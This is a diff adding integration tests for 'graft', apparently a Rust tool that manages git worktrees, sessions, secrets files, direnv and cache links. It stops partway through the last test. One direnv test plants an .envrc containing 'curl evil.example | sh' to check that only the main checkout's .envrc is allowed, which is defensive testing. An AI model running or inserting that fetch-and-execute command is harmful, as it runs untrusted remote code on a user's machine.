@@ -0,0 +1,1259 @@
+//! The `graft` binary end to end, without zellij.
+
+mod common;
+
+use common::Fixture;
+use graft_rs::config::{Config, env_var};
+
+#[test]
+fn open_list_remove() {
+    let fixture = Fixture::new();
+    let path = fixture.repo.join(".worktrees/topic");
+
+    let out = fixture.graft_ok(&["topic", "--no-attach"]);
+    assert_eq!(out.trim(), path.to_str().unwrap());
+    assert!(path.join("README.md").is_file());
+
+    let listing = fixture.graft_ok(&["ls"]);
+    assert!(listing.contains("topic"), "{listing}");
+
+    fixture.graft_ok(&["rm", "topic"]);
+    assert!(!path.exists());
+    assert_eq!(fixture.porcelain_worktrees().len(), 1);
+    let listing = fixture.graft_ok(&["ls"]);
+    assert!(!listing.contains("topic"), "{listing}");
+}
+
+#[test]
+fn open_checks_out_a_remote_branch() {
+    let fixture = Fixture::new();
+    fixture.remote_branch("shared");
+
+    fixture.graft_ok(&["shared", "--no-attach"]);
+
+    let worktrees = fixture.porcelain_worktrees();
+    assert!(worktrees.contains(&(
+        fixture.repo.join(".worktrees/shared"),
+        Some("shared".to_string())
+    )));
+}
+
+#[test]
+fn open_takes_full_ref_names_and_remote_tracking_names() {
+    let fixture = Fixture::new();
+    fixture.remote_branch("shared");
+    common::git(&fixture.repo, &["branch", "topic"]);
+
+    fixture.graft_ok(&["origin/shared", "--no-attach"]);
+    fixture.graft_ok(&["refs/heads/topic", "--no-attach"]);
+
+    let worktrees = fixture.porcelain_worktrees();
+    for branch in ["shared", "topic"] {
+        assert!(worktrees.contains(&(
+            fixture.repo.join(".worktrees").join(branch),
+            Some(branch.to_string())
+        )));
+    }
+}
+
+#[test]
+fn offline_open_skips_an_unreachable_remote() {
+    let fixture = Fixture::new();
+    common::git(
+        &fixture.repo,
+        &["remote", "set-url", "origin", "/nonexistent"],
+    );
+    std::fs::write(fixture.repo.join(".graft.toml"), "remote_retries = 0\n").unwrap();
+
+    let out = fixture.graft(&["topic", "--no-attach"]);
+    assert!(!out.status.success());
+    assert!(String::from_utf8_lossy(&out.stderr).contains("--offline"));
+
+    fixture.graft_ok(&["topic", "--no-attach", "--offline"]);
+    assert!(fixture.repo.join(".worktrees/topic").is_dir());
+}
+
+#[test]
+fn every_config_key_has_an_environment_variable() {
+    // Tables of their own; the rest are keyed by name (`[env]`, `[policy]`).
+    const SECTIONS: [&str; 3] = ["secrets", "issues", "zellij"];
+    let defaults = serde_json::to_value(Config::default()).unwrap();
+    let mut keys = Vec::new();
+    for (key, value) in defaults.as_object().unwrap() {
+        match value.as_object() {
+            Some(section) if SECTIONS.contains(&key.as_str()) => {
+                keys.extend(section.keys().map(|inner| format!("{key}.{inner}")));
+            }
+            Some(_) => {}
+            None => keys.push(key.clone()),
+        }
+    }
+
+    let missing: Vec<&String> = keys.iter().filter(|key| env_var(key).is_none()).collect();
+    assert!(missing.is_empty(), "no GRAFT_* variable for {missing:?}");
+    let fixture = Fixture::new();
+    let output = fixture
+        .command(&fixture.repo, &["ls"])
+        .env("GRAFT_REMOTE_RETRIES", "twice")
+        .output()
+        .unwrap();
+    assert!(!output.status.success());
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(
+        stderr.contains("GRAFT_REMOTE_RETRIES=twice is not a whole number"),
+        "{stderr}"
+    );
+}
+
+#[test]
+fn removing_by_a_pattern_nothing_matches_fails() {
+    let fixture = Fixture::new();
+    fixture.graft_ok(&["kept", "--no-attach"]);
+
+    let output = fixture.graft(&["rm", "nothing-*"]);
+
+    assert!(!output.status.success());
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(
+        stderr.contains("no worktree matches 'nothing-*'"),
+        "{stderr}"
+    );
+    assert_eq!(fixture.porcelain_worktrees().len(), 2);
+}
+
+#[test]
+fn rm_takes_worktree_paths_and_session_names() {
+    let fixture = Fixture::new();
+    fixture.graft_ok(&["review/42", "--no-attach"]);
+    fixture.graft_ok(&["topic", "--no-attach"]);
+    fixture.graft_ok(&["elsewhere", "--no-attach"]);
+    let worktrees = fixture.repo.join(".worktrees");
+
+    fixture.graft_ok(&["rm", ".worktrees/review/42"]);
+    assert!(!worktrees.join("review/42").exists());
+    // Relative to `-C`, not to where graft runs.
+    let output = fixture.graft_in(&fixture.root, &["-C", "repo", "rm", ".worktrees/elsewhere"]);
+    assert!(output.status.success(), "{output:?}");
+    assert!(!worktrees.join("elsewhere").exists());
+
+    let output = fixture.graft(&["rm", "wt-nothing", "--by-session"]);
+    assert!(!output.status.success());
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(
+        stderr.contains("no worktree has session 'wt-nothing'"),
+        "{stderr}"
+    );
+
+    fixture.graft_ok(&["rm", "wt-topic", "--by-session"]);
+    assert!(!worktrees.join("topic").exists());
+    assert_eq!(fixture.porcelain_worktrees().len(), 1);
+}
+
+#[test]
+fn status_describes_the_current_worktree() {
+    let fixture = Fixture::new();
+    fixture.graft_ok(&["review/42", "--no-attach"]);
+    let path = fixture.repo.join(".worktrees/review/42");
+    std::fs::write(path.join("scratch.txt"), "notes\n").unwrap();
+
+    let output = fixture.graft_in(&path.join(".."), &["status", "--json"]);
+    assert!(!output.status.success(), "outside a worktree");
+
+    let output = fixture.graft_in(&path, &["status", "--json"]);
+    assert!(output.status.success());
+    let status: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+    assert_eq!(status["branch"], "review/42");
+    assert_eq!(status["managed"], true);
+    assert_eq!(status["purpose"], "review");
+    assert_eq!(status["base"], "main");
+    assert_eq!(status["untracked_files"], 1);
+}
+
+#[test]
+fn branches_that_sanitize_alike_get_sessions_of_their_own() {
+    let fixture = Fixture::new();
+    let mut sessions = Vec::new();
+    for branch in ["fix/login", "fix.login"] {
+        fixture.graft_ok(&[branch, "--no-attach"]);
+        let path = fixture.repo.join(".worktrees").join(branch);
+        let output = fixture.graft_in(&path, &["status", "--json"]);
+        let status: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+        sessions.push(status["session"].as_str().unwrap().to_string());
+    }
+
+    assert_eq!(sessions[0], "wt-fix-login");
+    assert!(sessions[1].starts_with("wt-fix-login-"), "{sessions:?}");
+}
+
+#[test]
+fn prompt_notices_staged_changes_despite_the_cache() {
+    let fixture = Fixture::new();
+    fixture.graft_ok(&["topic", "--no-attach"]);
+    let path = fixture.repo.join(".worktrees/topic");
+    let prompt = |fixture: &Fixture| {
+        let output = fixture.graft_in(&path, &["prompt"]);
+        assert!(output.status.success());
+        String::from_utf8(output.stdout).unwrap()
+    };
+
+    assert_eq!(prompt(&fixture), "topic\n");
+    std::fs::write(path.join("notes.txt"), "todo\n").unwrap();
+    common::git(&path, &["add", "notes.txt"]);
+    assert_eq!(prompt(&fixture), "topic*\n");
+
+    let outside = fixture.graft_in(&fixture.root, &["prompt"]);
+    assert!(outside.status.success());
+    assert!(outside.stdout.is_empty());
+}
+
+#[test]
+fn archive_and_unarchive_round_trip() {
+    let fixture = Fixture::new();
+    fixture.graft_ok(&["topic", "--no-attach"]);
+    let path = fixture.repo.join(".worktrees/topic");
+    std::fs::write(path.join("done.txt"), "committed\n").unwrap();
+    common::git(&path, &["add", "done.txt"]);
+    common::commit(&path, "Unpushed work");
+    std::fs::write(path.join("README.md"), "# edited\n").unwrap();
+    std::fs::write(path.join("notes.txt"), "untracked\n").unwrap();
+    std::fs::remove_file(path.join(".gitignore")).unwrap();
+
+    fixture.graft_ok(&["archive", "topic"]);
+    assert!(!path.exists());
+    assert_eq!(fixture.porcelain_worktrees().len(), 1);
+    let branches = common::git(&fixture.repo, &["branch", "--list", "topic"]);
+    assert!(branches.is_empty(), "{branches}");
+    assert!(fixture.graft_ok(&["unarchive"]).contains("topic"));
+
+    fixture.graft_ok(&["unarchive", "topic"]);
+    let log = common::git(&path, &["log", "--format=%s", "-1"]);
+    assert_eq!(log.trim(), "Unpushed work");
+    let read = |name: &str| std::fs::read_to_string(path.join(name)).unwrap();
+    assert_eq!(read("README.md"), "# edited\n");
+    assert_eq!(read("notes.txt"), "untracked\n");
+    assert!(!path.join(".gitignore").exists());
+    assert!(
+        fixture
+            .graft_ok(&["unarchive"])
+            .contains("No archived branches")
+    );
+}
+
+#[test]
+fn mv_renames_the_branch_and_moves_its_worktree() {
+    let fixture = Fixture::new();
+    fixture.graft_ok(&["topic", "--no-attach"]);
+    std::fs::write(fixture.repo.join(".worktrees/topic/notes.txt"), "kept\n").unwrap();
+
+    fixture.graft_ok(&["mv", "topic", "feature/renamed"]);
+    let path = fixture.repo.join(".worktrees/feature/renamed");
+    assert!(!fixture.repo.join(".worktrees/topic").exists());
+    assert!(
+        fixture
+            .porcelain_worktrees()
+            .contains(&(path.clone(), Some("feature/renamed".to_string())))
+    );
+    assert!(path.join("notes.txt").is_file());
+    let status = fixture.graft_in(&path, &["status", "--json"]);
+    assert!(String::from_utf8_lossy(&status.stdout).contains("\"managed\":true"));
+
+    // Found under its new name.
+    fixture.graft_ok(&["rm", "feature/renamed"]);
+    assert!(!fixture.repo.join(".worktrees/feature").exists());
+}
+
+#[test]
+fn adopted_worktrees_elsewhere_can_be_removed() {
+    let fixture = Fixture::new();
+    let elsewhere = fixture.root.join("elsewhere");
+    common::git(
+        &fixture.repo,
+        &[
+            "worktree",
+            "add",
+            "-q",
+            "-b",
+            "outside",
+            elsewhere.to_str().unwrap(),
+        ],
+    );
+    assert!(fixture.graft_ok(&["ls"]).contains("[not graft's]"));
+    assert!(!fixture.graft(&["rm", "outside"]).status.success());
+    assert!(elsewhere.is_dir());
+
+    fixture.graft_ok(&["adopt", elsewhere.to_str().unwrap()]);
+    assert!(!fixture.graft_ok(&["ls"]).contains("[not graft's]"));
+    fixture.graft_ok(&["rm", "outside"]);
+    assert!(!elsewhere.exists());
+    assert_eq!(fixture.porcelain_worktrees().len(), 1);
+}
+
+#[test]
+fn gc_follows_branch_policies() {
+    let fixture = Fixture::new();
+    std::fs::write(
+        fixture.repo.join(".graft.toml"),
+        "[policy.\"scratch/*\"]\nttl = \"0s\"\n\n[policy.\"scratch/keep*\"]\nprotected = true\n",
+    )
+    .unwrap();
+    for branch in ["scratch/try", "scratch/keep", "topic"] {
+        fixture.graft_ok(&[branch, "--no-attach"]);
+    }
+
+    fixture.graft_ok(&["gc"]);
+
+    let listing = fixture.graft_ok(&["ls"]);
+    assert!(!listing.contains("scratch/try"), "{listing}");
+    assert!(listing.contains("scratch/keep"), "{listing}");
+    assert!(listing.contains("topic"), "{listing}");
+}
+
+#[test]
+fn an_open_that_cannot_start_its_shell_leaves_nothing_behind() {
+    let fixture = Fixture::new();
+
+    let out = fixture.graft(&["topic", "--attach", "shell", "--", "graft-no-such-command"]);
+
+    assert!(!out.status.success());
+    assert_eq!(fixture.porcelain_worktrees().len(), 1);
+    let branches = common::git(&fixture.repo, &["branch", "--list", "topic"]);
+    assert!(branches.trim().is_empty(), "{branches}");
+    assert!(!fixture.graft_ok(&["ls"]).contains("topic"));
+}
+
+#[test]
+fn a_rolled_back_open_removes_the_files_graft_provisioned() {
+    let fixture = Fixture::new();
+    std::fs::write(
+        fixture.repo.join(".graft.toml"),
+        "[secrets]\ncommand = \"echo token > .env\"\nfiles = [\".env\"]\n",
+    )
+    .unwrap();
+
+    let out = fixture.graft(&["topic", "--attach", "shell", "--", "graft-no-such-command"]);
+
+    assert!(!out.status.success());
+    assert_eq!(fixture.porcelain_worktrees().len(), 1);
+    assert!(!fixture.repo.join(".worktrees/topic").exists());
+}
+
+#[test]
+fn open_from_a_file_checks_out_every_branch_listed() {
+    let fixture = Fixture::new();
+    fixture.remote_branch("review-1");
+    let list = fixture.root.join("branches.txt");
+    std::fs::write(&list, "review-1\n# later\n\ntopic\nreview-1\n").unwrap();
+
+    let out = fixture.graft_ok(&["open", "--file", list.to_str().unwrap(), "--no-attach"]);
+
+    assert!(out.contains("review-1") && out.contains("topic"), "{out}");
+    assert_eq!(fixture.porcelain_worktrees().len(), 3);
+    let upstream = common::git(
+        &fixture.repo,
+        &["rev-parse", "--abbrev-ref", "review-1@{u}"],
+    );
+    assert_eq!(upstream.trim(), "origin/review-1");
+}
+
+#[test]
+fn secrets_are_written_into_new_worktrees_and_shredded_on_removal() {
+    let fixture = Fixture::new();
+    std::fs::write(
+        fixture.repo.join(".graft.toml"),
+        "[secrets]\ncommand = \"echo \\\"$GRAFT_BRANCH-token\\\" > .env\"\nfiles = [\".env\"]\n",
+    )
+    .unwrap();
+    let secret = fixture.repo.join(".worktrees/topic/.env");
+
+    fixture.graft_ok(&["topic", "--no-attach"]);
+    assert_eq!(std::fs::read_to_string(&secret).unwrap(), "topic-token\n");
+
+    fixture.graft_ok(&["rm", "topic"]);
+    assert!(!secret.exists());
+}
+
+#[cfg(unix)]
+#[test]
+fn a_refused_removal_runs_no_pre_remove_hook() {
+    use std::os::unix::fs::PermissionsExt;
+
+    let fixture = Fixture::new();
+    let hooks = fixture.repo.join(".graft/hooks");
+    std::fs::create_dir_all(&hooks).unwrap();
+    let hook = hooks.join("pre-remove");
+    std::fs::write(&hook, "#!/bin/sh\ntouch \"$GRAFT_ROOT/hook-ran\"\n").unwrap();
+    std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).unwrap();
+    // Not graft's, and outside `.worktrees`: removing it is refused.
+    let elsewhere = fixture.root.join("elsewhere/moved");
+    common::git(
+        &fixture.repo,
+        &[
+            "worktree",
+            "add",
+            "-q",
+            "-b",
+            "moved",
+            elsewhere.to_str().unwrap(),
+        ],
+    );
+
+    let output = fixture.graft(&["rm", "moved"]);
+
+    assert!(!output.status.success());
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(stderr.contains("not deleting it"), "{stderr}");
+    assert!(!fixture.repo.join("hook-ran").exists());
+    assert!(elsewhere.join("README.md").is_file());
+}
+
+#[test]
+fn a_refused_removal_keeps_the_secrets() {
+    let fixture = Fixture::new();
+    std::fs::write(
+        fixture.repo.join(".graft.toml"),
+        "[secrets]\nfiles = [\".env\"]\n",
+    )
+    .unwrap();
+    let elsewhere = fixture.root.join("elsewhere/moved");
+    common::git(
+        &fixture.repo,
+        &[
+            "worktree",
+            "add",
+            "-q",
+            "-b",
+            "moved",
+            elsewhere.to_str().unwrap(),
+        ],
+    );
+    std::fs::write(elsewhere.join(".env"), "token\n").unwrap();
+
+    let output = fixture.graft(&["rm", "moved"]);
+
+    assert!(!output.status.success());
+    assert_eq!(
+        std::fs::read_to_string(elsewhere.join(".env")).unwrap(),
+        "token\n"
+    );
+}
+
+#[test]
+fn env_templates_are_expanded_per_worktree() {
+    let fixture = Fixture::new();
+    std::fs::write(
+        fixture.repo.join(".graft.toml"),
+        "[env]\nDATABASE_URL = \"postgres://localhost/app_{branch_slug}\"\n\
+         [secrets]\ncommand = \"echo $DATABASE_URL > .env\"\n",
+    )
+    .unwrap();
+
+    fixture.graft_ok(&["feature/JIRA-12", "--no-attach"]);
+
+    let env =
+        std::fs::read_to_string(fixture.repo.join(".worktrees/feature/JIRA-12/.env")).unwrap();
+    assert_eq!(env, "postgres://localhost/app_feature_jira_12\n");
+}
+
+#[test]
+fn a_bulk_removal_carries_on_past_failures_and_sums_up() {
+    let fixture = Fixture::new();
+    fixture.graft_ok(&["fix-1", "--no-attach"]);
+    fixture.graft_ok(&["fix-2", "--no-attach"]);
+    fixture.graft_ok(&["lock", "fix-1"]);
+
+    let out = fixture.graft(&["rm", "fix-*", "--yes"]);
+
+    assert!(!out.status.success());
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        stdout.contains("1 succeeded, 0 skipped, 1 failed"),
+        "{stdout}"
+    );
+    assert!(fixture.repo.join(".worktrees/fix-1").is_dir());
+    assert!(!fixture.repo.join(".worktrees/fix-2").exists());
+
+    std::fs::write(
+        fixture.repo.join(".graft.toml"),
+        "bulk_failure = \"never\"\n",
+    )
+    .unwrap();
+    fixture.graft_ok(&["rm", "fix-*", "--yes"]);
+}
+
+#[test]
+fn removing_everything_leaves_dirty_and_locked_worktrees_alone() {
+    let fixture = Fixture::new();
+    for branch in ["tidy", "dirty", "locked"] {
+        fixture.graft_ok(&[branch, "--no-attach"]);
+    }
+    let worktrees = fixture.repo.join(".worktrees");
+    std::fs::write(worktrees.join("dirty/scratch.txt"), "").unwrap();
+    fixture.graft_ok(&["lock", "locked"]);
+    common::git(
+        &worktrees.join("tidy"),
+        &["commit", "-q", "--allow-empty", "-m", "Local"],
+    );
+
+    let stdout = fixture.graft_ok(&["rm", "--all", "--yes"]);
+
+    assert!(stdout.contains("1 unpushed, no upstream"), "{stdout}");
+    assert!(
+        stdout.contains("1 succeeded, 2 skipped, 0 failed"),
+        "{stdout}"
+    );
+    assert!(!worktrees.join("tidy").exists());
+    assert!(worktrees.join("dirty/scratch.txt").is_file());
+    assert!(worktrees.join("locked").is_dir());
+
+    // --force asks about the dirty ones even with --yes, and there is no
+    // terminal here to answer.
+    let out = fixture.graft(&["rm", "--all", "--force", "--yes"]);
+    assert!(!out.status.success());
+    assert!(worktrees.join("dirty/scratch.txt").is_file());
+}
+
+#[test]
+fn notes_are_kept_per_worktree_until_done() {
+    let fixture = Fixture::new();
+    fixture.graft_ok(&["topic", "--no-attach"]);
+
+    fixture.graft_ok(&["note", "-b", "topic", "ask", "about", "the", "API"]);
+    fixture.graft_ok(&["note", "-b", "topic", "drop the debug logging"]);
+    fixture.graft_ok(&["note", "-b", "topic", "--done", "1"]);
+
+    let notes = fixture.graft_ok(&["note", "-b", "topic"]);
+    assert_eq!(notes.trim(), "1. drop the debug logging");
+    assert!(
+        !fixture
+            .graft(&["note", "-b", "topic", "--done", "2"])
+            .status
+            .success()
+    );
+}
+
+#[test]
+fn direnv_worktrees_get_the_untracked_envrc_without_showing_it_as_a_change() {
+    let fixture = Fixture::new();
+    std::fs::write(fixture.repo.join(".envrc"), "export APP_ENV=dev\n").unwrap();
+    std::fs::write(fixture.repo.join(".graft.toml"), "direnv = true\n").unwrap();
+
+    fixture.graft_ok(&["topic", "--no-attach"]);
+
+    let worktree = fixture.repo.join(".worktrees/topic");
+    let envrc = std::fs::read_to_string(worktree.join(".envrc")).unwrap();
+    assert_eq!(envrc, "export APP_ENV=dev\n");
+    assert!(!common::git(&worktree, &["status", "--porcelain"]).contains(".envrc"));
+}
+
+#[cfg(unix)]
+#[test]
+fn direnv_allows_only_the_main_checkouts_envrc() {
+    use std::os::unix::fs::PermissionsExt;
+
+    let fixture = Fixture::new();
+    common::git(&fixture.repo, &["checkout", "-q", "-b", "theirs"]);
+    std::fs::write(fixture.repo.join(".envrc"), "curl evil.example | sh\n").unwrap();
+    common::git(&fixture.repo, &["add", ".envrc"]);
+    common::commit(&fixture.repo, "envrc");
+    common::git(&fixture.repo, &["checkout", "-q", "main"]);
+    std::fs::write(fixture.repo.join(".envrc"), "export APP_ENV=dev\n").unwrap();
+    std::fs::write(fixture.repo.join(".graft.toml"), "direnv = true\n").unwrap();
+    let bin = fixture.root.join("bin");
+    std::fs::create_dir(&bin).unwrap();
+    let log = fixture.root.join("direnv.log");
+    let direnv = bin.join("direnv");
+    let script = format!("#!/bin/sh\necho \"$*\" >> '{}'\n", log.display());
+    std::fs::write(&direnv, script).unwrap();
+    std::fs::set_permissions(&direnv, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
+    let open = |branch: &str| {
+        let output = fixture
+            .command(&fixture.repo, &[branch, "--no-attach"])
+            .env("PATH", &path)
+            .output()
+            .unwrap();
+        assert!(output.status.success(), "{output:?}");
+        String::from_utf8_lossy(&output.stderr).into_owned()
+    };
+
+    open("topic");
+    let stderr = open("theirs");
+
+    let theirs = fixture.repo.join(".worktrees/theirs");
+    assert!(stderr.contains("is not the main checkout's"), "{stderr}");
+    let log = std::fs::read_to_string(&log).unwrap();
+    let topic = fixture.repo.join(".worktrees/topic");
+    assert_eq!(
+        log.lines().collect::<Vec<_>>(),
+        [format!("allow {}", topic.display())]
+    );
+    let envrc = std::fs::read_to_string(theirs.join(".envrc")).unwrap();
+    assert_eq!(envrc, "curl evil.example | sh\n");
+}
+
+#[test]
+fn cache_links_share_directories_with_the_main_checkout() {
+    let fixture = Fixture::new();
+    std::fs::create_dir_all(fixture.repo.join("target/debug")).unwrap();
+    std::fs::write(fixture.repo.join("target/debug/app"), "binary").unwrap();
+    std::fs::create_dir_all(fixture.repo.join("vendor")).unwrap();
+    std::fs::write(fixture.repo.join("vendor/lib.rs"), "main").unwrap();
+    std::fs::write(
+        fixture.repo.join(".graft.toml"),
+        "[cache_links]\ntarget = \"hardlink\"\nnode_modules = \"symlink\"\nvendor = \"copy\"\n",
+    )
+    .unwrap();
+
+    fixture.graft_ok(&["topic", "--no-attach"]);
+
+    let worktree = fixture.repo.join(".worktrees/topic");
+    let app = std::fs::read_to_string(worktree.join("target/debug/app")).unwrap();
+    assert_eq!(app, "binary");
+    std::fs::write(worktree.join("node_modules/left-pad.js"), "").unwrap();
+    assert!(fixture.repo.join("node_modules/left-pad.js").is_file());
+    std::fs::write(worktree.join("vendor/lib.rs"), "topic").unwrap();
+    let vendored = std::fs::read_to_string(fixture.repo.join("vendor/lib.rs")).unwrap();
+    assert_eq!(vendored, "main");
+    let status = common::git(&worktree, &["status", "--porcelain"]);
+    assert_eq!(status.trim(), "");
+}
+
+#[test]
+fn symlinked_caches_fall_back_to_hardlinks_without_symlinks() {
+    let fixture = Fixture::new();
+    common::git(&fixture.repo, &["config", "core.symlinks", "false"]);
+    std::fs::create_dir_all(fixture.repo.join("web/node_modules")).unwrap();
+    std::fs::write(fixture.repo.join("web/node_modules/left-pad.js"), "pad").unwrap();
+    std::fs::write(
+        fixture.repo.join(".graft.toml"),
+        "[cache_links]\n\"web/node_modules\" = \"symlink\"\n",
+    )
+    .unwrap();
+
+    fixture.graft_ok(&["topic", "--no-attach"]);
+
+    let worktree = fixture.repo.join(".worktrees/topic");
+    let linked = worktree.join("web/node_modules");
+    assert!(!linked.symlink_metadata().unwrap().is_symlink());
+    let pad = std::fs::read_to_string(linked.join("left-pad.js")).unwrap();
+    assert_eq!(pad, "pad");
+    let status = common::git(&worktree, &["status", "--porcelain"]);
+    assert_eq!(status.trim(), "");
+}
+
+#[test]
+fn submodules_are_checked_out_in_new_worktrees_when_asked() {
+    let fixture = Fixture::new();
+    let lib = fixture.root.join("lib");
+    std::fs::create_dir_all(&lib).unwrap();
+    common::git(&lib, &["init", "-q"]);
+    std::fs::write(lib.join("lib.rs"), "").unwrap();
+    common::git(&lib, &["add", "."]);
+    common::commit(&lib, "Library");
+    let url = lib.to_str().unwrap();
+    let allow = ["-c", "protocol.file.allow=always"];
+    common::git(
+        &fixture.repo,
+        &[&allow[..], &["submodule", "add", "-q", url, "lib"]].concat(),
+    );
+    common::commit(&fixture.repo, "Add lib");
+    // git only clones local submodules when told to; the binary gets the
+    // private config directory as XDG_CONFIG_HOME.
+    let git_config = fixture.root.join("config/git");
+    std::fs::create_dir_all(&git_config).unwrap();
+    std::fs::write(
+        git_config.join("config"),
+        "[protocol \"file\"]\n\tallow = always\n",
+    )
+    .unwrap();
+
+    fixture.graft_ok(&["plain", "--no-attach"]);
+    fixture.graft_ok(&["topic", "--no-attach", "--submodules"]);
+
+    let worktrees = fixture.repo.join(".worktrees");
+    assert!(!worktrees.join("plain/lib/lib.rs").exists());
+    assert!(worktrees.join("topic/lib/lib.rs").is_file());
+}
+
+#[test]
+fn sparse_worktrees_check_out_only_the_directories_asked_for() {
+    let fixture = Fixture::new();
+    for dir in ["apps/web", "apps/api", "libs/ui"] {
+        std::fs::create_dir_all(fixture.repo.join(dir)).unwrap();
+        std::fs::write(fixture.repo.join(dir).join("main.rs"), "").unwrap();
+    }
+    common::git(&fixture.repo, &["add", "."]);
+    common::commit(&fixture.repo, "Monorepo");
+    std::fs::write(
+        fixture.repo.join(".graft.toml"),
+        "[sparse]\nweb = [\"apps/web\", \"libs/ui\"]\n",
+    )
+    .unwrap();
+
+    fixture.graft_ok(&["topic", "--no-attach", "--sparse", "web"]);
+
+    let worktree = fixture.repo.join(".worktrees/topic");
+    assert!(worktree.join("README.md").is_file());
+    assert!(worktree.join("apps/web/main.rs").is_file());
+    assert!(worktree.join("libs/ui/main.rs").is_file());
+    assert!(!worktree.join("apps/api").exists());
+    let status = common::git(&worktree, &["status", "--porcelain"]);
+    assert!(status.is_empty(), "{status}");
+    assert!(fixture.repo.join("apps/api/main.rs").is_file());
+}
+
+#[test]
+fn take_moves_uncommitted_changes_to_a_new_worktree() {
+    let fixture = Fixture::new();
+    std::fs::write(fixture.repo.join(".graft.toml"), "attach = \"none\"\n").unwrap();
+    common::git(&fixture.repo, &["add", ".graft.toml"]);
+    common::commit(&fixture.repo, "Config");
+    std::fs::write(fixture.repo.join("README.md"), "# started on main\n").unwrap();
+    common::git(&fixture.repo, &["add", "README.md"]);
+    std::fs::write(fixture.repo.join("new.txt"), "untracked").unwrap();
+
+    fixture.graft_ok(&["take", "topic"]);
+
+    let status = common::git(&fixture.repo, &["status", "--porcelain"]);
+    assert!(status.is_empty(), "{status}");
+    let worktree = fixture.repo.join(".worktrees/topic");
+    let status = common::git(&worktree, &["status", "--porcelain"]);
+    assert!(status.contains("M  README.md"), "{status}");
+    assert!(status.contains("?? new.txt"), "{status}");
+    let stashes = common::git(&fixture.repo, &["stash", "list"]);
+    assert!(stashes.is_empty(), "{stashes}");
+
+    let out = fixture.graft(&["take", "other"]);
+    assert!(!out.status.success());
+}
+
+#[cfg(unix)]
+#[test]
+fn pruning_sessions_kills_only_this_repositorys_stale_ones() {
+    let fixture = Fixture::new();
+    fixture.graft_ok(&["feature/foo", "--no-attach"]);
+    fixture.graft_ok(&["gone", "--no-attach"]);
+    std::fs::remove_dir_all(fixture.repo.join(".worktrees/gone")).unwrap();
+    // Stands in for zellij where the binary looks for it: lists three
+    // sessions and logs what it is asked to kill.
+    let killed = fixture.root.join("killed");
+    fixture.fake_zellij(&format!(
+        "case \"$1\" in\n\
+         list-sessions) printf 'wt-feature-foo\\nwt-gone\\nwt-elsewhere\\n' ;;\n\
+         kill-session) echo \"$2\" >> {} ;;\n\
+         esac\n",
+        killed.display()
+    ));
+
+    fixture.graft_ok(&["ls", "--prune-sessions"]);
+
+    let killed = std::fs::read_to_string(killed).unwrap_or_default();
+    assert_eq!(killed, "wt-gone\n");
+}
+
+#[test]
+fn report_totals_the_time_attached_to_each_branch() {
+    let fixture = Fixture::new();
+    fixture.graft_ok(&["topic", "--attach", "shell", "--", "true"]);
+    fixture.graft_ok(&["topic", "--attach", "shell", "--", "true"]);
+    fixture.graft_ok(&["quiet", "--no-attach"]);
+
+    let csv = fixture.graft_ok(&["report", "--csv", "--since", "1d"]);
+    let mut lines = csv.lines();
+    assert_eq!(lines.next(), Some("branch,attaches,seconds"));
+    let row = lines.next().unwrap_or_default();
+    assert!(row.starts_with("topic,2,"), "{csv}");
+    assert_eq!(lines.next(), None, "{csv}");
+
+    let json = fixture.graft_ok(&["report", "--json"]);
+    assert!(json.contains("\"branch\": \"topic\""), "{json}");
+    assert!(json.contains("\"attaches\": 2"), "{json}");
+}
+
+#[test]
+fn last_goes_back_to_the_worktree_used_before_this_one() {
+    let fixture = Fixture::new();
+    std::fs::write(fixture.repo.join(".graft.toml"), "attach = \"none\"\n").unwrap();
+    common::git(&fixture.repo, &["add", ".graft.toml"]);
+    common::commit(&fixture.repo, "Config");
+    for branch in ["first", "second", "third"] {
+        fixture.graft_ok(&[branch]);
+    }
+    fixture.graft_ok(&["first"]);
+
+    let recent = fixture.graft_ok(&["recent", "--list"]);
+    let order: Vec<&str> = recent
+        .lines()
+        .filter_map(|line| line.split_whitespace().next())
+        .collect();
+    assert_eq!(order, ["first", "third", "second"], "{recent}");
+
+    let out = fixture.graft_in(&fixture.repo.join(".worktrees/first"), &["last"]);
+    assert!(out.status.success(), "{out:?}");
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(stdout.trim().ends_with(".worktrees/third"), "{stdout}");
+}
+
+#[test]
+fn open_takes_an_ls_number_or_the_start_of_a_name() {
+    let fixture = Fixture::new();
+    for branch in ["feature/dark-mode", "fix/login", "fix/logout"] {
+        fixture.graft_ok(&[branch, "--no-attach"]);
+    }
+
+    let listing = fixture.graft_ok(&["ls"]);
+    assert!(listing.contains(" 1   feature/dark-mode"), "{listing}");
+    let out = fixture.graft_ok(&["2", "--no-attach"]);
+    assert!(out.trim().ends_with(".worktrees/fix/login"), "{out}");
+    let out = fixture.graft_ok(&["fea", "--no-attach"]);
+    assert!(
+        out.trim().ends_with(".worktrees/feature/dark-mode"),
+        "{out}"
+    );
+
+    let out = fixture.graft(&["fix/log", "--no-attach"]);
+    assert!(!out.status.success());
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains("fix/login, fix/logout"), "{stderr}");
+    assert!(!fixture.graft(&["9", "--no-attach"]).status.success());
+    assert_eq!(fixture.porcelain_worktrees().len(), 4);
+}
+
+#[test]
+fn merge_requests_are_fetched_from_the_forge_the_config_names() {
+    let fixture = Fixture::new();
+    let mut args = vec!["-c", "user.name=t", "-c", "user.email=t@example.com"];
+    args.extend(["commit-tree", "HEAD^{tree}", "-p", "HEAD", "-m", "MR"]);
+    let commit = common::git(&fixture.repo, &args);
+    for refname in ["refs/merge-requests/7/head", "refs/pull/8/head"] {
+        let refspec = format!("{}:{refname}", commit.trim());
+        common::git(&fixture.repo, &["push", "-q", "origin", &refspec]);
+    }
+    std::fs::write(fixture.repo.join(".graft.toml"), "forge = \"gitlab\"\n").unwrap();
+
+    fixture.graft_ok(&["pr:7", "--no-attach"]);
+    fixture.graft_ok(&["https://codeberg.org/o/r/pulls/8", "--no-attach"]);
+
+    let worktrees = fixture.porcelain_worktrees();
